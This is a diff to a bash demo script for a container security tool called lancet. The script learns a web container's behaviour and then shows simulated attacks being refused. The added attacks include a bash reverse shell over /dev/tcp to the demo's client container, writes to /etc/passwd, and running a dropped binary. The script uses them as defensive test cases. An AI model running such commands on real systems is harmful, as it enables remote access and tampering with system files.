@@ -6,7 +6,10 @@
 #      image, on a podman network made for the demo;
 #   4. learn them under traffic for ~20 s;
 #   5. promote the workload to protect (a dry run first);
-#   6. run a few attacks through `podman exec` and show each refused while
+#   6. run a few attacks through `podman exec` (a dropped binary, a reverse
+#      shell, a write below /etc, `sh -c id`; then past the shell: a dropped
+#      file run directly, the learned curl writing /etc/passwd or connecting
+#      to a port it never used) and show each refused, with its alert, while
 #      the web server keeps answering the client;
 #   7. print the alerts and the network map, and keep running (dashboard
 #      live) until Ctrl-C.
@@ -28,7 +31,7 @@ no_wait=${LANCET_DEMO_NONINTERACTIVE:-0}
 for a in "$@"; do
   case $a in
     --no-wait) no_wait=1 ;;
-    -h|--help) sed -n '2,24p' "$0" | sed 's/^# \{0,1\}//'; exit 0 ;;
+    -h|--help) sed -n '2,27p' "$0" | sed 's/^# \{0,1\}//'; exit 0 ;;
     *) echo "demo: unknown argument $a (try --help)" >&2; exit 64 ;;
   esac
 done
@@ -51,11 +54,13 @@ net=lancet-demo-net-$tag
 pins=/sys/fs/bpf/lancet-demo-$tag
 tmp=$(mktemp -d /tmp/lancet-demo.XXXXXX)
 agent_pid=
+sleeper=
 cleaned=0
 cleanup() {
   [ "$cleaned" = 1 ] && return
   cleaned=1
   trap - INT TERM EXIT
+  [ -z "$sleeper" ] || kill "$sleeper" 2>/dev/null || true
   say "Cleaning up what the demo started"
   podman rm -f -t 0 "$web" "$client" >/dev/null 2>&1 || true
   podman network rm -f "$net" >/dev/null 2>&1 || true
@@ -121,12 +126,13 @@ health() { podman exec "$web" sh -c 'curl -fsS -o /dev/null http://127.0.0.1/'; 
 learn=${LANCET_DEMO_LEARN:-20}
 say "Learning for ${learn} s under traffic (and an operator's health check)"
 end=$((SECONDS + learn))
+n=0
 while [ "$SECONDS" -lt "$end" ]; do
   s=$(status); health && h=ok || h=failed
-  printf '\r   client -> web: HTTP %s   health check: %s   %2d s left ' "$s" "$h" $((end - SECONDS))
+  [ $((n % 5)) = 0 ] && note "client -> web: HTTP $s   health check: $h   $((end - SECONDS)) s left"
+  n=$((n + 1))
   sleep 1
 done
-echo
 "$lancet" profile show "$web" "${api[@]}" | sed -n '1,40p' | sed 's/^/   | /'
 note "(the first 40 lines of the learned profile)"
 
@@ -138,7 +144,8 @@ for _ in $(seq 150); do
   "$lancet" status "${api[@]}" 2>/dev/null | grep -q "${web_id:0:12}" && break
   sleep 0.1
 done
-"$lancet" status "${api[@]}" | sed 's/^/   | /'
+note "lancet status: the containers now guarded (the full report is JSON)"
+"$lancet" status "${api[@]}" | sed -n '/^  "guarded": \[/,/^  \]/p' | sed 's/^/   | /'
 note "client -> web: HTTP $(status); the learned health check: $(health && echo runs || echo FAILED)"
 
 # A string field of an alert line (JSON), without a JSON tool.
@@ -150,20 +157,29 @@ attack() {
   local what=$1; shift
   local before out rc
   say "Attack: $what"
-  note "\$ podman exec $web $*"
+  note "\$ podman exec $web ${*@Q}"
   before=$(wc -l < "$alerts")
   set +e
   out=$(podman exec "$web" "$@" 2>&1)
   rc=$?
   set -e
   [ -z "$out" ] || printf '%s\n' "$out" | sed -n '1,5s/^/   > /p'
-  note "exit status $rc ($( [ $rc -eq 0 ] && echo 'it RAN' || echo 'refused'))"
   sleep 1.5
-  tail -n +"$((before + 1))" "$alerts" | while IFS= read -r line; do
+  local new
+  new=$(tail -n +"$((before + 1))" "$alerts")
+  local how="failed, for another reason: see its output"
+  case $rc:$out in
+    0:*) how="it RAN" ;;
+    137:*|*Killed*) how="killed" ;;
+    *"not permitted"*|*"ermission denied"*|*"Read-only file system"*) how="refused" ;;
+    *) grep -q '"lancet.enforced":true' <<<"$new" && how="refused by lancet: see the alert" ;;
+  esac
+  note "exit status $rc ($how)"
+  [ -z "$new" ] || while IFS= read -r line; do
     printf '   alert: %s [%s, action %s, enforced %s]\n' "$(field rule "$line")" "$(field priority "$line")" \
       "$(field lancet.action "$line")" "$(sed -nE 's/.*"lancet\.enforced":(true|false).*/\1/p' <<<"$line")"
-    printf '          %.160s\n' "$(field output "$line")"
-  done
+    printf '          %.160s\n' "$(field output "$line" | sed 's/\\"/"/g')"
+  done <<<"$new"
   note "client -> web: HTTP $(status)"
 }
 
@@ -171,6 +187,13 @@ attack "a dropped binary (copy ls to /tmp and run it)" bash -c 'cp /bin/ls /tmp/
 attack "a reverse shell to the client container" bash -c "bash -i >& /dev/tcp/$client_ip/4444 0>&1"
 attack "a write below /etc" bash -c 'echo x >> /etc/passwd'
 attack "a shell running code it never ran while learning" sh -c id
+say "Past the shell: a dropped file run directly, learned programs used for harm"
+note "(an attacker who gets code running without a new shell meets the next layers)"
+podman cp /bin/ls "$web:/tmp/dropped" || note "(podman cp failed)"
+attack "a file dropped into /tmp (podman cp from the host), run" /tmp/dropped
+attack "the learned curl writing below /etc" curl -sS -o /etc/passwd http://127.0.0.1/
+attack "the learned curl connecting to a port it never used" curl -sS -m 3 "http://$client_ip:4444/"
+
 say "The learned health check still runs"
 note "\$ podman exec $web sh -c 'curl -fsS -o /dev/null http://127.0.0.1/'"
 note "$(health && echo 'exit status 0 (allowed: the profile learned this shell with this code)' || echo 'FAILED')"
@@ -189,4 +212,4 @@ if [ "$no_wait" = 1 ]; then
   exit 0
 fi
 say "Running. Dashboard: http://127.0.0.1:$port/   Press Ctrl-C to stop and clean up."
-while :; do sleep 3600 & wait $!; done
+while :; do sleep 3600 & sleeper=$!; wait "$sleeper"; done
